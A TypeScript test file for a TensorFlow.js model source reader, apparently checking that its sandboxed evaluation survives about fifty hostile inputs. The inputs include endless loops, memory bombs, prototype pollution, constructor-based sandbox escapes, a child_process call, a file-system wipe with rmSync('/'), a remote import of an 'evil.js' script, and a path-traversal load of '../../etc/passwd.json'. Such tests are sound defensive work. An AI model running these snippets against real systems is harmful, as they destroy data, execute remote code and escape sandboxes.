import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { ReadResult } from '../../src/model/reader.ts';
import { readSource } from '../../src/readers/source/readSource.ts';
import { processorTime } from '../support/processorTime.ts';
import { projectFiles } from '../support/projectFiles.ts';

const TF = "import * as tf from '@tensorflow/tfjs';\n";
const MODEL = 'export const m = tf.sequential({layers: [tf.layers.dense({units: 2, inputShape: [3]})]});\n';

async function read(text: string, path = '/project/model.js'): Promise<ReadResult> {
  return readSource(path, text, projectFiles({ [path]: text }), {});
}

/** Something was said: a model, a problem, or why there is none. */
function answered(result: ReadResult): void {
  assert.ok(
    result.models.length + result.problems.length + (result.questions?.length ?? 0) > 0 ||
      result.notAModel !== undefined ||
      result.skipped !== undefined,
  );
  for (const problem of result.problems) assert.doesNotMatch(problem.message, /\n\s+at /);
}

const HOSTILE: Readonly<Record<string, string>> = {
  'an endless loop': 'while (true) {}',
  'an endless loop that builds': 'for (;;) m.add(tf.layers.dense({units: 1}));',
  'an endless loop nobody rewrote': "new Function('while (true) {}')();",
  'an endless promise chain': 'const again = () => Promise.resolve().then(again); again();',
  'an endless timer': 'const tick = () => setTimeout(tick); tick();',
  'an endless generator': 'const all = [...(function* () { for (;;) yield 1; })()];',
  'deep recursion': 'const deep = (n) => deep(n + 1) + 1; deep(0);',
  'deep recursion through getters': 'const o = { get x() { return this.x; } }; o.x;',
  'deep recursion through JSON':
    'const o = {}; let at = o; for (let i = 0; i < 1e5; i++) at = at.x = {}; JSON.stringify(o);',
  'a huge array': 'new Array(2 ** 31).fill(0);',
  'a huge text': "'x'.repeat(2 ** 30) + 'x'.repeat(2 ** 30);",
  'a growing text': "let s = 'x'; while (true) s += s;",
  'a huge buffer': 'new Uint8Array(2 ** 31 - 1).fill(1);',
  'a huge number': 'let n = 2n; while (true) n *= n;',
  'a slow pattern': "/^(a+)+$/.test('a'.repeat(40) + 'b');",
  'process.exit': 'process.exit(1);',
  child_process: "require('child_process').execSync('touch /tmp/initscope-escaped');",
  'the file system':
    "require('fs').writeFileSync('/tmp/initscope-escaped', 'x'); require('node:fs').rmSync('/');",
  'a remote import': "import('https://example.org/evil.js').then((evil) => evil.default());",
  'a fetch': "fetch('https://example.org').then((r) => r.json());",
  'the constructor of everything': "const f = tf.constructor.constructor; f && f('return process')();",
  'the constructor of a layer':
    "tf.layers.dense({units: 1}).constructor.constructor('return this')().process?.exit?.();",
  'a stack of frames': 'const e = new Error(); Error.prepareStackTrace = (_, s) => s; e.stack;',
  'a changed prototype':
    "Object.prototype.units = 99; Array.prototype.map = () => []; Object.prototype.toJSON = () => 'x';",
  'a changed JSON': "JSON.stringify = () => '{}'; JSON.parse = () => ({});",
  'a changed Map':
    'Map.prototype.get = () => { throw 1; }; WeakMap.prototype.has = () => true; WeakMap.prototype.get = () => undefined;',
  'a __proto__ config': 'tf.layers.dense(JSON.parse(\'{"__proto__": {"units": 7}, "units": 3}\'));',
  'a config of getters': 'tf.layers.dense({ get units() { while (true) {} } });',
  'a config that is a Proxy':
    'm.add(tf.layers.dense(new Proxy({}, { get() { return new Proxy({}, {}); }, ownKeys() { return Array.from({length: 1e6}, (_, i) => String(i)); }, getOwnPropertyDescriptor() { return {enumerable: true, configurable: true, value: 1}; } })));',
  'a text that is a bomb':
    "tf.layers.dense({units: {toString() { while (true) {} }, valueOf() { throw new Error('bomb'); }}, name: {toString: () => 'x'.repeat(1e9)}});",
  'a cyclic config': 'const c = {units: 1}; c.self = c; tf.layers.dense(c);',
  'our own helpers': 'globalThis.__r = null; __b = null; __scope = 1; __imp = 1;',
  'their names': 'const __r = 1, __g = 2; function __v() {}',
  'with and eval': "eval('while (true) {}'); (0, eval)('this.x = 1');",
  'a thrower of strange things': 'throw { get message() { while (true) {} } };',
  'a million layers': 'for (let i = 0; i < 1e6; i++) tf.layers.dense({units: 1});',
  'a million models': 'for (let i = 0; i < 1e6; i++) tf.sequential();',
  'a model inside itself': 'm.add(m);',
  'a generator that never ends its return':
    'const g = (function* () { try { yield 1; } finally { for (;;) yield 2; } })(); for (const x of g) break; g.return();',
  'the constructor of a generator':
    "Object.getPrototypeOf(function* () {}).constructor('yield process')().next().value?.exit?.(1);",
  'the constructor of an async function':
    "Object.getPrototypeOf(async () => {}).constructor('for (;;) await 0;')();",
  'an endless async generator':
    'const endless = async function* () { for (;;) yield 1; }; for await (const x of endless()) {}',
  'a thenable that never settles': 'await { then(done) { done(this); } };',
  'a top-level await that never ends': 'await new Promise(() => {});',
  'a remote import that is awaited':
    "const evil = await import('data:text/javascript,export default 1'); evil.default();",
  'a changed __proto__':
    'Object.setPrototypeOf(tf.layers, null); tf.__proto__ = { layers: 1 }; ({}).__proto__.units = 9;',
  'a loaded model of hostile names':
    "const l = await tf.loadLayersModel('__proto__'); await tf.loadLayersModel('constructor'); await tf.loadLayersModel('../../etc/passwd.json'); l.layers.push(l);",
  'a model of data that is not there':
    "const rows = JSON.parse(require('fs').readFileSync('rows.json')); for (const row of rows) m.add(tf.layers.dense({units: row.units}));",
  'SharedArrayBuffer and Atomics': 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);',
};

describe('sources that mean harm', () => {
  for (const [name, code] of Object.entries(HOSTILE)) {
    it(`survives ${name} after a model, and before one`, { timeout: 120_000 }, async () => {
      for (const text of [`${TF}${MODEL}${code}\n`, `${TF}try { ${code} } catch {}\n${MODEL}`]) {
        const took = await processorTime(async () => answered(await read(text)));
        assert.ok(took < 3500, `${took} ms, with what else this process does`);
      }
      assert.equal(({} as { units?: number }).units, undefined);
    });
  }

  it('still shows the model that was built before the program ran away', async () => {
    for (const code of [
      'while (true) {}',
      "new Function('while (true) {}')();",
      'const deep = (n) => deep(n + 1) + 1; deep(0);',
      'process.exit(1);',
    ]) {
      const result = await read(`${TF}${MODEL}${code}\n`);
      assert.deepEqual(
        result.models.map((model) => model.id),
        ['m'],
        code,
      );
    }
  });

  it('reads another source afterwards', async () => {
    assert.equal((await read(`${TF}${MODEL}`)).models.length, 1);
  });
});

describe('sources that cannot be read', () => {
  it('names the place of a syntax error', async () => {
    const result = await read(`${TF}const m = tf.sequential(;\n`);
    assert.equal(result.problems[0]?.range?.start, TF.length + 'const m = tf.sequential('.length);
    assert.match(result.problems[0]?.message ?? '', /^syntax error: /);
  });

  it('says in one line that there is no model', async () => {
    assert.match((await read('export const x = 1;')).notAModel ?? '', /no TensorFlow\.js model/);
    assert.match(
      (await read(`${TF}class A extends tf.layers.Layer {}\nexport default A;`)).notAModel ?? '',
      /no TensorFlow\.js model/,
    );
    assert.match(
      (await read(`${TF}const m = await tf.loadLayersModel('https://example.org/m.json');`)).notAModel ?? '',
      /it loads "https:\/\/example\.org\/m\.json"/,
    );
  });

  it('declines bundles and giants', async () => {
    assert.match((await read(`${TF}${`var a=tf.sequential();`.repeat(2000)}`)).skipped ?? '', /minified/);
    assert.match((await read(`${TF}${'// x\n'.repeat(500_000)}`)).skipped ?? '', /too large/);
  });

  it('evaluates nothing where that is not allowed', async () => {
    const text = `${TF}${MODEL}`;
    const result = await readSource('/project/model.js', text, projectFiles({}), { allowEvaluation: false });
    assert.deepEqual(result.models, []);
    assert.match(result.skipped ?? '', /trusted/);
  });

  it('reads top-level await, and nesting that is too deep', async () => {
    assert.equal((await read(`${TF}await tf.ready();\n${MODEL}`)).models.length, 1);
    answered(await read(`${TF}${MODEL}const x = ${'['.repeat(20_000)}${']'.repeat(20_000)};`));
    answered(await read(`${TF}${MODEL}const y = ${'1+'.repeat(20_000)}1;`));
  });
});
